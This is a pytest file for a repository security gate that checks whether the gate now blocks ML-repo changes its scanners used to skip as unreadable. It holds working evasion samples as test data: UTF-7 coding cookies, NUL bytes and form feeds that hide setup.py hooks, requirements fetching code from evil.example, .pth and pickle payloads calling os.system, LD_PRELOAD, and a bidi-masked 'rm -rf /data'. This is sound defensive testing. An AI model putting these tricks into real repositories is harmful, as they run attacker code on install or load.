"""Issue #16, fail closed: a config, autorun file or requirements list that one
check cannot read must block in that check, not be left to another check that
the trusted policy may have narrowed or disabled.

Each attack is written from the attacker's side: a change that got through on
95d50e7 (the check skipped the file as binary, undecodable or unparseable) and
must block now. The policy under test leaves only the check under test on, so a
pass cannot come from another check catching the same file.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from traingate.cli import main

from .conftest import Repo

ALL = ("semgrep", "unicode", "sabotage", "reach", "autorun", "artifacts", "config", "repository")


def only(check: str, extra: str = "") -> str:
    """A policy with every check but ``check`` disabled."""
    off = "".join(f"  {c}: {{enabled: false}}\n" for c in ALL if c != check)
    return f"version: 1\nextends: builtin:default\nchecks:\n{off}{extra}"


def gate(repo: Repo, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[dict[str, Any]]]:
    repo.commit("change", who="mallory")
    code = main(
        ["check", "--repo", str(repo.path), "--base", "main", "--head", "feature"]
        + ["--format", "json"]
    )
    doc = json.loads(capsys.readouterr().out)
    assert doc["errors"] == []
    return code, doc["findings"]


def hits(findings: list[dict[str, Any]]) -> set[tuple[str, str, int | None]]:
    return {(f["rule_id"], f["path"], f["line"]) for f in findings}


def start(repo: Repo, policy: str, base: dict[str, str | bytes] | None = None) -> Repo:
    repo.write(".traingate.yaml", policy)
    for path, content in (base or {}).items():
        repo.write(path, content)
    repo.commit("base")
    repo.branch("feature")
    return repo


# --- config: UTF-16/32 and byte order marks are what the readers read ---------

HYDRA = "model:\n  _target_: mylab.Model\nhook:\n  _target_: os.system\n  _args_: [id]\n"


@pytest.mark.parametrize(
    ("codec", "fmt"),
    [
        ("utf-16", "yaml"),  # BOM: yaml.safe_load(bytes) decodes it
        ("utf-32", "yaml"),  # YAML 1.2 readers decode it (PyYAML refuses)
        ("utf-16-be", "json"),  # no BOM: json.loads(bytes) sniffs the NULs
        ("utf-16-le", "json"),
        ("utf-32", "json"),
        ("utf-32-le", "json"),
        ("utf-32-be", "json"),
    ],
)
def test_wide_config_target_blocks(
    repo: Repo, capsys: pytest.CaptureFixture[str], codec: str, fmt: str
) -> None:
    start(repo, only("config"))
    text = HYDRA if fmt == "yaml" else json.dumps({"hook": {"_target_": "os.system"}}, indent=1)
    repo.write(f"configs/hook.{fmt}", text.encode(codec))
    code, found = gate(repo, capsys)
    line = 4 if fmt == "yaml" else 3
    assert ("config-dangerous-target", f"configs/hook.{fmt}", line) in hits(found)
    assert code == 1


def test_utf16_changed_approval_key_asks(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    policy = only(
        "config",
        "groups:\n  ml: [bob]\nconfig_rules:\n  - name: runs\n    paths: [configs/]\n"
        "    approval_keys: [optimizer.lr]\n    approval_group: ml\n",
    )
    base = "optimizer:\n  lr: 3.0e-4\n"
    start(repo, policy, {"configs/train.yaml": base.encode("utf-16")})
    repo.write("configs/train.yaml", base.replace("3.0e-4", "3.0e-2").encode("utf-16"))
    code, found = gate(repo, capsys)
    assert ("config-key-change", "configs/train.yaml", 2) in hits(found)
    assert code == 1


def test_utf8_bom_yaml_target_blocks(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    start(repo, only("config"))
    repo.write("configs/a.yaml", ("\ufeff" + HYDRA).encode("utf-8"))
    code, found = gate(repo, capsys)
    assert ("config-dangerous-target", "configs/a.yaml", 4) in hits(found)
    assert code == 1


@pytest.mark.parametrize(
    ("path", "data", "line"),
    [
        ("configs/b.yaml", b"a: 1\nb: \xff\xfe\n", 2),  # not UTF-8: every reader refuses it
        ("configs/c.json", b'{"a": 1,\n "b": "\x00"}', 2),  # a NUL in a string
        ("pyproject.toml", b'[project]\nname = "x\x00"\n', 2),
    ],
)
def test_undecodable_config_blocks(
    repo: Repo, capsys: pytest.CaptureFixture[str], path: str, data: bytes, line: int
) -> None:
    # On 95d50e7 every one of these was "binary" or decoded with replacement
    # characters, and passed.
    start(repo, only("config"))
    repo.write(path, data)
    code, found = gate(repo, capsys)
    assert [(f["rule_id"], f["path"]) for f in found] == [("config-parse-error", path)]
    assert found[0]["line"] == line
    assert code == 1


def test_plain_configs_stay_quiet(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    start(repo, only("config"))
    repo.write("configs/a.yaml", "model:\n  layers: 12  # ünïcode comment\n")
    repo.write("configs/b.json", ("\ufeff" + '{"lr": 0.1}').encode("utf-8"))
    repo.write("configs/c.json", '{"lr": 0.1}'.encode("utf-16"))
    _, found = gate(repo, capsys)
    assert found == []  # the exit code is the sensitive path's (an approval)


# --- requirements: decoded as pip decodes them --------------------------------


@pytest.mark.parametrize(
    "data",
    [
        "torch==2.5.1\ngit+https://evil.example/x.git\n".encode("utf-16"),
        b"\xef\xbb\xbftorch==2.5.1\ngit+https://evil.example/x.git\n",
        # pip honours a coding comment: +AC0- is "-", +AGg- "h" in UTF-7
        b"# -*- coding: utf-7 -*-\ntorch==2.5.1\n"
        b"+AC0-+AC0-extra-index-url +AGg-ttps://evil.example/simple\n",
        # a NUL in a comment makes git call it binary; pip reads every line
        b"torch==2.5.1  # \x00\ngit+https://evil.example/x.git\n",
    ],
)
def test_requirements_as_pip_reads_them(
    repo: Repo, capsys: pytest.CaptureFixture[str], data: bytes
) -> None:
    start(repo, only("config"), {"requirements.txt": "numpy==2.1.0\n"})
    repo.write("requirements.txt", data)
    code, found = gate(repo, capsys)
    assert {f["rule_id"] for f in found} == {"config-dependency-source"}
    assert code == 1


def test_requirements_undecodable_by_pip_blocks(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    start(repo, only("config"))
    repo.write("requirements.txt", b"# coding: no-such-codec\ntorch\n")
    code, found = gate(repo, capsys)
    assert hits(found) == {("config-parse-error", "requirements.txt", 1)}
    assert code == 1


def test_launcher_with_a_nul_is_read(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    # bash checks only its first line for NUL bytes; git calls the file binary.
    start(repo, only("config"))
    repo.write(
        "scripts/launch.sh", b"#!/bin/bash\n# \x00\nexport LD_PRELOAD=/tmp/x.so\npython train.py\n"
    )
    code, found = gate(repo, capsys)
    assert hits(found) == {("config-risky-env", "scripts/launch.sh", 3)}
    assert code == 1


def test_requirements_form_feed_shift(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    # str.splitlines counts the form feed of an unchanged line as a line end,
    # so git's added line 2 was looked up as the empty piece before it.
    start(repo, only("config"), {"requirements.txt": "numpy==2.1.0 \x0c\n"})
    repo.write(
        "requirements.txt", "numpy==2.1.0 \x0c\n--extra-index-url https://evil.example/simple\n"
    )
    code, found = gate(repo, capsys)
    assert hits(found) == {("config-dependency-source", "requirements.txt", 2)}
    assert code == 1


# --- autorun: read as CPython reads it, and block what it cannot read ----------

CMDCLASS = """\
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)


setup(name="lab", cmdclass={"install": PostInstall})
"""


@pytest.mark.parametrize(
    ("path", "data", "line"),
    [
        # A Python 2 print: pip cannot run it, yet nothing here looked.
        ("setup.py", b"from setuptools import setup\nprint 'x'\nsetup(name='lab')\n", 2),
        ("setup.py", b"# coding: no-such-codec\nfrom setuptools import setup\n", 1),
        ("setup.py", b"from setuptools import setup\n# \x00\nsetup(name='lab')\n", 1),
        ("tools/ipython_config.py", b"c = get_config()\nc.X = (\n", 2),
        ("pyproject.toml", b'[build-system]\nrequires = ["setuptools"\n', 1),
    ],
)
def test_autorun_unreadable_blocks(
    repo: Repo, capsys: pytest.CaptureFixture[str], path: str, data: bytes, line: int
) -> None:
    start(repo, only("autorun"))
    repo.write(path, data)
    code, found = gate(repo, capsys)
    assert [(f["rule_id"], f["path"]) for f in found] == [("autorun-unreadable", path)]
    assert found[0]["line"] == line
    assert code == 1


def test_setup_py_utf7_cookie_hides_install_subclass(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    # To a UTF-8 reader `class PostInstall(+AGk-nstall)` is a base expression
    # (+AGk minus nstall) and "+AGM-mdclass" a string; to CPython they are
    # `install` and "cmdclass".
    start(repo, only("autorun"), {"setup.py": "from setuptools import setup\nsetup(name='lab')\n"})
    evil = CMDCLASS.replace("(install)", "(+AGk-nstall)").replace(
        'cmdclass={"install": PostInstall}', '**{"+AGM-mdclass": {"+AGk-nstall": PostInstall}}'
    )
    repo.write("setup.py", ("# -*- coding: utf-7 -*-\n" + evil).encode("ascii"))
    code, found = gate(repo, capsys)
    assert {(f["rule_id"], f["path"]) for f in found} == {("autorun-setup-cmdclass", "setup.py")}
    assert found[0]["line"] == 6  # the class line, git's numbering
    assert code == 1


def test_setup_py_plain_cmdclass_still_fires(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    start(repo, only("autorun"))
    repo.write("setup.py", CMDCLASS)
    code, found = gate(repo, capsys)
    assert hits(found) == {("autorun-setup-cmdclass", "setup.py", 5)}
    assert code == 1


def test_ipython_config_utf7_cookie(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    start(repo, only("autorun"))
    # "+AGU-" is "e": exec_lines to CPython (traitlets compiles the bytes).
    repo.write(
        "profile/ipython_config.py",
        b"# coding: utf-7\nc = get_config()\n"
        b"c.InteractiveShellApp.+AGU-xec_lines = ['import os; os.system(\"id\")']\n",
    )
    code, found = gate(repo, capsys)
    assert hits(found) == {("autorun-ipython-startup", "profile/ipython_config.py", 3)}
    assert code == 1


@pytest.mark.parametrize(
    "data",
    [
        # A NUL in a comment made it "a torch checkpoint"; site.py runs line 2.
        b"# \x00 cache\nimport os; os.system('id')\n",
        # site.py splits on a lone \r too; git does not.
        b"lib/ext\r\nvendor\rimport os; os.system('id')\n",
    ],
)
def test_pth_import_lines_site_py_runs(
    repo: Repo, capsys: pytest.CaptureFixture[str], data: bytes
) -> None:
    start(repo, only("autorun"))
    repo.write("site/extra.pth", data)
    code, found = gate(repo, capsys)
    assert hits(found) == {("autorun-pth-import", "site/extra.pth", 2)}
    assert code == 1


def test_binary_checkpoint_pth_is_not_an_import(
    repo: Repo, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    import pickle

    start(repo, only("autorun"))
    repo.write("ckpt/model.pth", pickle.dumps({"w": [0.0] * 64, "note": "x\x00y"}, protocol=4))
    _, found = gate(repo, capsys)
    assert found == []  # the exit code is the sensitive path's (an approval)


# --- unicode: text its readers read, NUL bytes or UTF-16 ----------------------


def test_unicode_bidi_in_utf16_config(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    start(repo, only("unicode"))
    text = "data:\n  root: /datasets/ok\u202e/../../tmp\n"
    repo.write("exp/data.json", json.dumps({"root": text}, ensure_ascii=False).encode("utf-16"))
    repo.write("exp/data.yaml", text.encode("utf-16"))
    code, found = gate(repo, capsys)
    assert {(r, p) for r, p, _ in hits(found)} == {
        ("unicode-bidi-control", "exp/data.json"),
        ("unicode-bidi-control", "exp/data.yaml"),
    }
    assert code == 1


def test_unicode_reads_text_with_a_nul(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    # bash runs a script whose NUL comes after its first line; git calls it
    # binary and gives no added lines, and the unicode check skipped it.
    start(repo, only("unicode"))
    script = "#!/bin/bash\n# build \x00 cache\n" + "x" * 100 + "\nrm -rf /data\u202e #\n"
    repo.write("launch", script.encode("utf-8"))
    code, found = gate(repo, capsys)
    assert ("unicode-bidi-control", "launch", 4) in hits(found)
    assert ("unicode-invisible", "launch", 2) in hits(found)
    assert code == 1


def test_unicode_reads_utf16_text_not_its_nuls(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    # No byte order mark: the NUL pattern says UTF-16-LE. Read as that, not
    # as UTF-8 text with a NUL after every letter.
    start(repo, only("unicode"))
    repo.write("notes/plain.txt", "run the sweep on node 3\n".encode("utf-16-le"))
    repo.write("notes/bidi.txt", "access = 'user' \u202e # admin\n".encode("utf-16-le"))
    code, found = gate(repo, capsys)
    assert hits(found) == {("unicode-bidi-control", "notes/bidi.txt", 1)}
    assert code == 1


def test_unicode_skips_real_binaries(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    start(repo, only("unicode"))
    repo.write("docs/logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\xff\xfe")
    repo.write("exp/c.json", '{"lr": 0.1}'.encode("utf-16"))
    _, found = gate(repo, capsys)
    assert found == []


# --- repository: .gitattributes as git reads it --------------------------------


def test_gitattributes_nul_comment(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    # A NUL in a comment: git diffs the file as binary (no added lines), and
    # still applies the filter on the next line.
    start(repo, only("repository"))
    repo.write(".gitattributes", b"# generated \x00\n*.py filter=lfs diff=lfs\n")
    _, found = gate(repo, capsys)
    assert ("repo-gitattributes", ".gitattributes", 2) in hits(found)


def test_gitattributes_form_feed_shift(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    # A form feed in an unchanged line: str.splitlines counted one line more
    # than git, so the added line 2 was judged as the line before it.
    start(repo, only("repository"), {".gitattributes": "*.ipynb linguist-documentation\x0c\n"})
    repo.write(".gitattributes", "*.ipynb linguist-documentation\x0c\n*.py -diff\n")
    _, found = gate(repo, capsys)
    assert ("repo-gitattributes", ".gitattributes", 2) in hits(found)


# --- artifacts: torch's legacy tar checkpoints --------------------------------


class _Evil:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, ("id",))


def _legacy_tar(obj: object, broken: bool = False) -> bytes:
    """torch.save's pre-1.6 tar layout: each member a pickle stream."""
    import io
    import pickle
    import tarfile

    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "pickle": pickle.dumps(obj, protocol=2),
        "storages": pickle.dumps(0, protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, payload in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            tar.addfile(info, io.BytesIO(payload))
    data = buf.getvalue()
    return data[:700] if broken else data


@pytest.mark.parametrize("path", ["ckpt/model_best.pth.tar", "ckpt/weights.data"])
def test_legacy_tar_checkpoint_is_vetted(
    repo: Repo, capsys: pytest.CaptureFixture[str], path: str
) -> None:
    start(repo, only("artifacts"))
    repo.write(path, _legacy_tar(_Evil()))
    code, found = gate(repo, capsys)
    assert {(f["rule_id"], f["path"]) for f in found} == {("artifact-pickle-global", path)}
    assert "pickle" in found[0]["message"]
    assert code == 1


def test_unreadable_tar_falls_back_to_pickle(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    start(repo, only("artifacts"))
    repo.write("ckpt/model.pth.tar", _legacy_tar(_Evil(), broken=True))
    code, found = gate(repo, capsys)
    assert {(f["rule_id"], f["path"]) for f in found} == {
        ("artifact-pickle-malformed", "ckpt/model.pth.tar")
    }
    assert code == 1


def test_benign_legacy_tar_passes(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    start(repo, only("artifacts"))
    repo.write("ckpt/model.pth.tar", _legacy_tar({"epoch": 3, "best_acc1": 0.71}))
    code, found = gate(repo, capsys)
    assert found == []
    assert code == 0


# --- autorun: the place, whatever the file is -----------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "sitecustomize/__init__.py",  # a package is imported as the module
        "lib/usercustomize.cpython-311-x86_64-linux-gnu.so",  # an extension module
    ],
)
def test_site_hook_in_other_shapes(
    repo: Repo, capsys: pytest.CaptureFixture[str], path: str
) -> None:
    start(repo, only("autorun"))
    repo.write(path, "import os\n" if path.endswith(".py") else b"\x7fELF\x02\x01\x01\x00")
    code, found = gate(repo, capsys)
    assert {(r, p) for r, p, _ in hits(found)} == {("autorun-site-hook", path)}
    assert code == 1


def test_rename_into_a_site_hook(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    # The content was judged as tools/helper.py; as sitecustomize.py it runs
    # in every interpreter. A pure rename was skipped.
    start(repo, only("autorun"), {"tools/helper.py": "import os\nos.environ['X'] = '1'\n"})
    repo.git("mv", "tools/helper.py", "tools/sitecustomize.py")
    code, found = gate(repo, capsys)
    assert {(r, p) for r, p, _ in hits(found)} == {("autorun-site-hook", "tools/sitecustomize.py")}
    assert code == 1


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("sitecustomize.py", "autorun-site-hook"),
        ("site/extra.pth", "autorun-unreadable"),
        ("setup.py", "autorun-unreadable"),
    ],
)
def test_symlinked_autorun_file(
    repo: Repo, capsys: pytest.CaptureFixture[str], path: str, rule: str
) -> None:
    # Python follows the link and runs the target, which was judged as an
    # ordinary file; the repository check only warns about an in-repo link.
    start(repo, only("autorun"), {"tools/helper.py": "import os\n"})
    target = "../" * path.count("/") + "tools/helper.py"
    (repo.path / path).parent.mkdir(parents=True, exist_ok=True)
    (repo.path / path).symlink_to(target)
    code, found = gate(repo, capsys)
    assert {(r, p) for r, p, _ in hits(found)} == {(rule, path)}
    assert code == 1


def test_rename_into_an_artifact_name(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    # Protocol-0 text no sniffer takes for a pickle, added as notes.dat, then
    # renamed to what pickle.load opens: the pure rename was skipped.
    start(repo, only("artifacts"), {"assets/notes.dat": b"N0cposix\nsystem\n(Vid\ntR."})
    repo.git("mv", "assets/notes.dat", "assets/model.pkl")
    code, found = gate(repo, capsys)
    assert {(r, p) for r, p, _ in hits(found)} == {("artifact-pickle-global", "assets/model.pkl")}
    assert code == 1


def test_pyproject_line_separator_in_a_string(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    # U+2028 is legal inside a TOML string; str.splitlines ends a line there,
    # so the added cmdclass line was looked up one line off.
    base = '[project]\nname = "lab"\ndescription = "a\u2028b"\n'
    start(repo, only("autorun"), {"pyproject.toml": base})
    repo.write(
        "pyproject.toml",
        base + '[tool.setuptools]\ncmdclass = {install = "lab.build.Install"}\n',
    )
    code, found = gate(repo, capsys)
    assert hits(found) == {("autorun-setup-cmdclass", "pyproject.toml", 5)}
    assert code == 1


def test_resolver_registered_in_utf7(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    # CPython reads +AGU-val as eval: "calc" evaluates its argument. Read as
    # UTF-8, the registration looked harmless and ${calc:...} was not judged.
    start(repo, only("config"))
    repo.write(
        "lab/resolvers.py",
        b"# -*- coding: utf-7 -*-\nfrom omegaconf import OmegaConf\n\n"
        b'OmegaConf.register_new_resolver("calc", lambda s: +AGU-val(s))\n',
    )
    repo.write("exp/run.yaml", "data:\n  size: ${calc:quit()}\n")
    _, found = gate(repo, capsys)
    assert ("config-resolver-code", "exp/run.yaml", 2) in hits(found)
